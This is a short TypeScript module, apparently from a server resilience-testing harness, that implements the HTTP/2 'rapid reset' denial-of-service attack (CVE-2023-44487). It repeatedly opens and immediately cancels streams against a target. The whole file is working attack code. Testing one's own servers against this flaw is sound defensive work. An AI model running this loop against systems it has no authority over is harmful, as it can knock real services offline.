import { constants } from 'node:http2'
import { type Attack, dialHttp2 } from '../attack.ts'

/** Streams that are opened and reset at once (CVE-2023-44487). */
export const attack: Attack = {
  name: 'rapid resets',
  async round(target) {
    const session = dialHttp2(target)
    for (let at = 0; at < 300 && !session.destroyed; at++) {
      const stream = session.request({ ':path': '/v1/trust' })
      stream.on('error', () => undefined)
      stream.close(constants.NGHTTP2_CANCEL)
      if (at % 20 === 0) await target.pause(20)
    }
    session.destroy()
  },
}
